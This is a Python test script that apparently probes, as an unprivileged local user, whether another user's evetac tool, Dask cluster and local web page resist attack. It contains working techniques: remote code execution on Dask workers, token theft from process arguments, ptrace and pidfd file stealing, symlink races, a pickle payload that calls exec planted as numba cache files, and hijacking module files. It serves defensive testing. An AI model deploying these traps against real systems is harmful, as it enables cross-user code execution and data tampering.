"""Attempts of another user of the computer; other_user.py runs this script as a user without rights.

    python -P tries_as_other_user.py NAME JSON

NAME is a function below and JSON contains its arguments. The script prints the result as JSON. A function that holds a
resource or sets a trap prints `ready` and waits until its standard input ends. The script stops if it has any rights.
"""

import asyncio
import contextlib
import ctypes
import gc
import http.client
import importlib
import json
import os
import pickle
import pkgutil
import platform
import re
import resource
import signal
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

Try = dict[str, Any]  # tried, came_of_it, reached
ANSWER_S = 5.0
PAGES = ("/", "/json/identity.json", "/info/main/workers.html", "/status", "/sitemap.json", "/health", "/metrics")
MODULES = ("json", "pickle", "multiprocessing", "numpy", "pty", "random", "socket")
PTRACE_ATTACH, PIDFD_GETFD, PR_SET_NO_NEW_PRIVS = 16, 438, 38


def row(tried: str, came_of_it: str, *, reached: bool) -> Try:
    """Return an attempt and its result as a row."""
    return {"tried": tried, "came_of_it": came_of_it, "reached": reached}


def refused(tried: str, act: Callable[[], Any]) -> Try:
    """Make an attempt that reaches its target unless it is refused."""
    try:
        known = act()
    except (OSError, ValueError, EOFError) as error:
        return row(tried, getattr(error, "strerror", None) or type(error).__name__, reached=False)
    return row(tried, f"done: {str(known)[:80]}", reached=True)


def summed(tried: str, tries: list[Try]) -> Try:
    """Summarise many attempts of a kind in one row, with the names of those that reached their target."""
    reached = [one["tried"] for one in tries if one["reached"]]
    words = sorted({one["came_of_it"] for one in tries if not one["reached"]})
    known = f"{len(tries)} tried; " + (f"reached: {', '.join(reached)[:300]}" if reached else f"none: {words}"[:200])
    return row(tried, known, reached=bool(reached))


def processes(owner: int) -> list[int]:
    """Return the ids of the owner's processes, which all users may see."""
    known = []
    for path in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if path.name.isdigit() and path.stat().st_uid == owner:
                known.append(int(path.name))
    return known


def command_lines(owner: int) -> list[str]:
    """Return the arguments of the owner's processes, as `ps` shows them to all users."""
    lines = []
    for number in processes(owner):
        with contextlib.suppress(OSError):
            lines.append(Path(f"/proc/{number}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
    return lines


def listening(owner: int) -> list[int]:
    """Return the ports on which the owner's programs listen, which all users may see."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and int(fields[7]) == owner:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(ports)


# --- Dask -------------------------------------------------------------------------------------------------------------


def dask(owner: int) -> list[Try]:
    """Submit work to scheduler, workers and nannies over every protocol, and read their pages."""
    ports = listening(owner)
    return [asyncio.run(_work(ports, how)) for how in ("no TLS", "no certificate", "a certificate of its own")] + [
        summed("Dask: pages by HTTP", [_page(port, path) for port in ports for path in PAGES])
    ]


async def _work(ports: list[int], how: str) -> Try:
    from distributed import Security

    security = Security.temporary() if how == "a certificate of its own" else Security()
    arguments = security.get_connection_args("client")
    if how == "no certificate":
        arguments["ssl_context"] = ssl.create_default_context()
        arguments["ssl_context"].check_hostname, arguments["ssl_context"].verify_mode = False, ssl.CERT_NONE
    scheme = "tcp" if how == "no TLS" else "tls"
    tries = await asyncio.gather(*(_run_there(f"{scheme}://127.0.0.1:{port}", arguments) for port in ports))
    return summed(f"Dask: run os.getuid with {how}", list(tries))


async def _run_there(address: str, arguments: dict[str, Any]) -> Try:
    from distributed.core import rpc
    from distributed.protocol.pickle import dumps

    try:
        async with rpc(address, connection_args=arguments, timeout=ANSWER_S) as remote:
            about = await asyncio.wait_for(remote.identity(), ANSWER_S)
            if about["type"] == "Scheduler":
                answer = await asyncio.wait_for(_by_workers(remote, dumps(os.getuid)), 2 * ANSWER_S)
            else:
                answer = await asyncio.wait_for(remote.run(function=dumps(os.getuid)), ANSWER_S)
    except Exception as error:  # any exception that the library raises for a refusal
        return row(address, type(error).__name__, reached=False)
    return row(f"{address} ran as {answer!r:.60}", "ran", reached=True)


def _by_workers(remote: Any, function: bytes) -> Awaitable[Any]:
    return remote.broadcast(msg={"op": "run", "function": function})  # type: ignore[no-any-return]


def _page(port: int, path: str) -> Try:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=ANSWER_S)
    try:
        connection.request("GET", path, headers={"Host": "evil.example"})
        response = connection.getresponse()
        length = len(response.read())
    except (OSError, http.client.HTTPException) as error:
        return row(f"{port}{path}", type(error).__name__, reached=False)
    finally:
        connection.close()
    return row(f"{port}{path}: {response.status}, {length} bytes", str(response.status), reached=response.status == 200)


# --- the live page ----------------------------------------------------------------------------------------------------


def page(owner: int, folders: list[str]) -> list[Try]:
    """Find the address with its token, and press the page's button with it."""
    lines = command_lines(owner)
    known = {match for line in lines for match in re.findall(r"http://127\.0\.0\.1:\d+/[\w-]{20,}/", line)}
    rows = [
        row(
            "page: the address among all programs' arguments",
            f"{len(lines)} seen, {len(known)} with it",
            reached=bool(known),
        )
    ]
    files = {match for line in lines for match in re.findall(r"file://(/\S+)", line)}
    looks = [(name, act) for name in sorted(files) for act in (_read, _list_around)]
    opened = [refused(f"{name} {act.__name__}", lambda name=name, act=act: act(name)) for name, act in looks]
    rows.append(summed("page: the file that a browser is started with", opened))
    texts = [text for folder in folders for text in _texts(Path(folder))]
    in_files = {match for text in texts for match in re.findall(r"http://127\.0\.0\.1:\d+/[\w-]{20,}/", text)}
    rows.append(row("page: the address in files that can be read", f"{len(texts)} read", reached=bool(in_files)))
    ports = listening(owner)
    without = [_page(port, path) for port in ports for path in ("/", "//", f"/{'A' * 32}/", "/page.js", "/../x/")]
    rows.append(summed("page: without the token", without))
    pressed = [_press(address) for address in sorted(known | in_files)]
    pressed += [_press(f"http://127.0.0.1:{port}/{'A' * 32}/") for port in ports]
    rows.append(summed("page: press the button that lets go", pressed))
    return rows


def _read(name: str) -> str:
    return Path(name).read_text()


def _list_around(name: str) -> list[str]:
    return os.listdir(Path(name).parent)


def _texts(folder: Path) -> Iterator[str]:
    for path in folder.rglob("*"):
        with contextlib.suppress(OSError):
            if path.is_file():
                yield path.read_bytes()[: 1 << 20].decode(errors="replace")


def _press(address: str) -> Try:
    from tornado.websocket import websocket_connect

    async def press() -> None:
        connection = await websocket_connect(f"ws{address.removeprefix('http')}pictures", connect_timeout=ANSWER_S)
        await connection.write_message("let go")
        with contextlib.suppress(TimeoutError):  # until the other end has read it
            await asyncio.wait_for(connection.read_message(), ANSWER_S)
        connection.close()

    try:
        asyncio.run(press())
    except Exception as error:  # HTTP 403 and any other refusal
        return row(address, f"{type(error).__name__}: {error}", reached=False)
    return row(address, "pressed", reached=True)


def robot(owner: int, file: str) -> list[Try]:
    """Read the token file of `--listen`, replace it, and try to start a trial without a token."""
    ask = json.dumps({"token": "A" * 32, "command": "start", "name": "taken"}).encode() + b"\n"
    lines = (ask, b'{"command": "start", "name": "taken"}\n', b"POST / HTTP/1.1\r\n\r\n" + ask, b"x" * (1 << 20))
    asked = [_ask(port, line) for port in listening(owner) for line in lines]
    return [
        refused("robot: read the file with the token", lambda: _read(file)),
        refused("robot: write into it", lambda: Path(file).write_text(f"127.0.0.1 1 {'A' * 32}\n")),
        summed("robot: start a trial without the token", asked),
    ]


def _ask(port: int, line: bytes) -> Try:
    answer = b""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), ANSWER_S) as connection:
        connection.sendall(line)
        while part := connection.recv(4096):
            answer += part
    return row(line[:30].decode(), answer.decode().strip() or "nothing", reached=b'"ok": true' in answer)


def lay_address(folder: str, target: str) -> list[Try]:
    """Put a file with the attacker's address, or a link, where the owner's `--listen` will write."""
    path = Path(folder) / "evetac.listen"
    path.unlink(missing_ok=True)
    if target:
        path.symlink_to(target)
    else:
        path.write_text(f"127.0.0.1 1 {'A' * 32}\n")
    return []


def hold(port: int, count: int) -> None:
    """Hold a number of silent connections, and replace those that are closed, until stdin ends."""
    held: list[socket.socket] = []
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.set_blocking(0, False)
    said, most_s = False, time.monotonic() + 2 * ANSWER_S
    while True:
        with contextlib.suppress(OSError):
            while len(held) < count:
                one = socket.create_connection(("127.0.0.1", port), 0.2)
                one.setblocking(False)
                held.append(one)
        if not said and (len(held) == count or time.monotonic() > most_s):
            said = True
            print("ready", len(held), flush=True)
        for one in list(held):
            with contextlib.suppress(BlockingIOError):
                try:
                    ended = not one.recv(1)
                except ConnectionError:
                    ended = True
                if ended:
                    one.close()
                    held.remove(one)
        with contextlib.suppress(BlockingIOError):
            if not os.read(0, 1):
                return
        time.sleep(0.01)


# --- processes, memory, terminals -------------------------------------------------------------------------------------


def memory(owner: int) -> list[Try]:
    """Look into the owner's processes and their shared memory, stop them, and write to their terminals."""
    libc = ctypes.CDLL(None, use_errno=True)

    def call(name: str, *arguments: Any) -> int:
        if (result := int(getattr(libc, name)(*arguments))) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result

    def take(number: int, handle: int) -> int:
        pidfd = os.pidfd_open(number)
        try:
            return call("syscall", PIDFD_GETFD, pidfd, handle, 0)
        finally:
            os.close(pidfd)

    kinds: dict[str, list[Try]] = {}
    numbers = processes(owner)
    for number in numbers:
        place = Path(f"/proc/{number}")
        looks: list[tuple[str, Callable[[Path], Any]]] = [
            *((name, _some_bytes) for name in ("mem", "environ", "maps")),
            *((name, os.listdir) for name in ("fd", "map_files")),
            *((name, os.readlink) for name in ("cwd", "root", "exe", *(f"fd/{handle}" for handle in range(12)))),
        ]
        for name, act in looks:
            kinds.setdefault("memory: /proc of its processes", []).append(
                refused(f"{number}/{name}", lambda act=act, at=place / name: act(at))
            )
        for handle in range(24):
            kinds.setdefault("memory: take an open file (pidfd_getfd)", []).append(
                refused(f"{number}:{handle}", lambda number=number, handle=handle: take(number, handle))
            )
        kinds.setdefault("memory: attach as a debugger", []).append(
            refused(str(number), lambda number=number: call("ptrace", PTRACE_ATTACH, number, None, None))
        )
        for which in (signal.SIGSTOP, signal.SIGINT, signal.SIGUSR1, signal.SIGKILL, 0):
            kinds.setdefault("memory: a signal", []).append(
                refused(f"{number}: {which}", lambda number=number, which=which: os.kill(number, which))
            )
        kinds.setdefault("memory: its priority", []).append(
            refused(str(number), lambda number=number: os.setpriority(os.PRIO_PROCESS, number, 19))
        )
    shared = [path for folder in ("/dev/shm", "/dev/mqueue") for path in _owned(Path(folder), owner)]
    kinds["memory: names in /dev/shm and /dev/mqueue"] = [one for path in shared for one in _takes(path)]
    kinds["memory: System V memory, queues and semaphores"] = [
        row(f"{table} {line.split()[:2]}", "there", reached=True)
        for table in ("shm", "msg", "sem")
        for line in Path(f"/proc/sysvipc/{table}").read_text().splitlines()[1:]
        if str(owner) in line.split()
    ]
    ends = _owned(Path("/dev/pts"), owner)
    kinds["terminals: its pseudo terminals"] = [
        one
        for path in ends
        for one in (
            refused(f"{path} read", lambda path=path: _open(path, os.O_RDONLY)),
            refused(f"{path} write", lambda path=path: _open(path, os.O_WRONLY)),
            row(f"{path} group or others may write", "no", reached=bool(path.stat().st_mode & 0o022)),
        )
    ]
    names = [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:] if len(line.split()) > 7]
    evetac = [name for name in names if "evetac" in name or "pymp" in name or "listener-" in name]
    kinds["sockets: Unix sockets with a name"] = [refused(name, lambda name=name: _connect(name)) for name in evetac]
    seen = [row("processes seen", f"{len(numbers)} processes, {len(ends)} terminals", reached=False)]
    return seen + [summed(kind, tries) for kind, tries in kinds.items()]


def _some_bytes(path: Path) -> bytes:
    with path.open("rb") as file:
        known = file.read(1 << 12)
    if not known:
        raise EOFError  # of a process that has ended
    return known


def _connect(name: str) -> None:
    with socket.socket(socket.AF_UNIX) as end:
        end.connect("\0" + name[1:] if name.startswith("@") else name)


def _owned(folder: Path, owner: int) -> list[Path]:
    known = []
    with contextlib.suppress(OSError):
        for path in folder.iterdir():
            with contextlib.suppress(OSError):
                if path.lstat().st_uid == owner:
                    known.append(path)
    return known


# --- files ------------------------------------------------------------------------------------------------------------


def _takes(path: Path) -> list[Try]:
    """Read, write, rename and list the owner's files."""
    moved = path.with_name(f"{path.name}.taken")
    if path.is_dir() and not path.is_symlink():
        tries = [
            refused(f"{path} list", lambda: os.listdir(path)),
            refused(f"{path} add", (path / "added").touch),
        ]
    else:
        tries = [
            refused(f"{path} read", lambda: _open(path, os.O_RDONLY)),
            refused(f"{path} write", lambda: _open(path, os.O_WRONLY)),
        ]
    return [*tries, refused(f"{path} rename", lambda: path.rename(moved))]


def _open(path: Path, flags: int) -> str:
    os.close(os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK))
    return "open"


def files(owner: int, folder: str, seconds: float) -> list[Try]:
    """For a given time, take all of the owner's files that appear in the folder for temporary files."""
    tried: dict[str, list[Try]] = {}
    end_s = time.monotonic() + seconds
    while time.monotonic() < end_s:
        for path in Path(folder).rglob("*"):
            with contextlib.suppress(OSError):
                if path.lstat().st_uid == owner and str(path) not in tried:
                    tried[str(path)] = _takes(path)
        time.sleep(0.02)
    names = sorted({re.sub(r"[\w]{8,}$", "*", Path(name).name) for name in tried})
    rows = [one for tries in tried.values() for one in tries]
    return [summed(f"temporary files ({', '.join(names)[:120]})", rows)]


# --- what is laid in the owner's way ----------------------------------------------------------------------------------


class Mark:
    """When unpickled, records whose program did it."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (f"import os, pathlib; pathlib.Path({self.mark!r}).write_text(str(os.geteuid()))",)


def lay_kernels(folder: str, mark: str) -> list[Try]:
    """Put a trap for each compiled kernel into this folder, which NUMBA_CACHE_DIR names."""
    import evetac_cli

    os.umask(0)
    for module in pkgutil.walk_packages(evetac_cli.__path__, "evetac_cli."):
        if ".kernels" in module.name or ".sim" in module.name or ".devices" in module.name:
            with contextlib.suppress(Exception):
                importlib.import_module(module.name)
    count = 0
    for kernel in [item for item in gc.get_objects() if type(item).__name__ == "CPUDispatcher"]:
        index = getattr(getattr(kernel._cache, "_cache_file", None), "_index_path", None)
        if isinstance(index, str):
            Path(index).write_bytes(pickle.dumps(Mark(mark)))
            Path(index).chmod(0o666)
            count += 1
    return [row(f"{count} traps laid in {folder}", "laid", reached=False)]


def lay_modules(folder: str, mark: str) -> list[Try]:
    """Put modules and settings into a folder in which the owner will work."""
    for name in MODULES:
        text = f"import os; open({mark!r} + '-{name}', 'w').write(str(os.geteuid()))\nraise SystemExit(9)\n"
        (Path(folder) / f"{name}.py").write_text(text)
    return [row(f"{len(MODULES)} modules laid in {folder}", "laid", reached=False)]


def lay_scratch(folder: str) -> list[Try]:
    """Create the folder for the Dask workers' folders before the owner does."""
    os.umask(0)
    (Path(folder) / "dask-scratch-space").mkdir(mode=0o777)
    return [row("folder laid", "laid", reached=False)]


def lay_settings(folder: str, cache: str) -> list[Try]:
    """Write numba settings that name a folder with traps."""
    (Path(folder) / ".numba_config.yaml").write_text(f"cache_dir: {cache}\n")
    return [row("settings laid", "laid", reached=False)]


def lay_part_folder(folder: str, name: str, precious: str) -> None:
    """Create NAME.part before the owner does, with links for its segments, repeatedly until stdin ends."""
    part = Path(folder) / f"{name}.part"
    os.umask(0)
    part.mkdir(mode=0o777)

    def lay() -> None:
        for number in range(4):
            _link(part / f"{number:06d}.tmp", precious)
        _link(part / "static.tmp", precious)

    _again(lay)


def lay_part_link(folder: str, name: str, target: str) -> list[Try]:
    """Put a link to one of the owner's folders in place of NAME.part."""
    (Path(folder) / f"{name}.part").symlink_to(target)
    return [row("link laid", "laid", reached=False)]


def lay_unfinished(folder: str, name: str, owner: int, precious: str) -> None:
    """Put links under the temporary names that the owner's programs write before renaming, until stdin ends."""

    def lay() -> None:
        for number in processes(owner):
            with contextlib.suppress(OSError, IndexError):
                started = Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[19]
                unfinished = f".{name}.{platform.node()}.{number}-{started}.tmp"
                for ending in ("", Path(name).suffix):
                    _link(Path(folder) / f"{unfinished}{ending}", precious)

    _again(lay)


def _link(path: Path, target: str) -> None:
    with contextlib.suppress(FileExistsError, PermissionError):
        path.symlink_to(target)


def _again(lay: Callable[[], None]) -> None:
    os.set_blocking(0, False)
    lay()
    print("ready", flush=True)
    while True:
        lay()
        time.sleep(0.002)
        with contextlib.suppress(BlockingIOError):
            if not os.read(0, 1):
                return


def without_rights() -> bool:
    """Whether this process has no capability, is in no other group, and can gain neither."""
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    none = all(int(status[name], 16) == 0 for name in ("CapEff", "CapPrm", "CapInh", "CapAmb"))
    return none and os.getuid() != 0 and not os.getgroups() and status["NoNewPrivs"].strip() == "1"


if __name__ == "__main__":
    ctypes.CDLL(None).prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
    if not without_rights():
        sys.exit("this is to be run as a user without rights")
    answer = globals()[sys.argv[1]](**json.loads(sys.argv[2]))
    if answer is not None:
        print(json.dumps(answer))
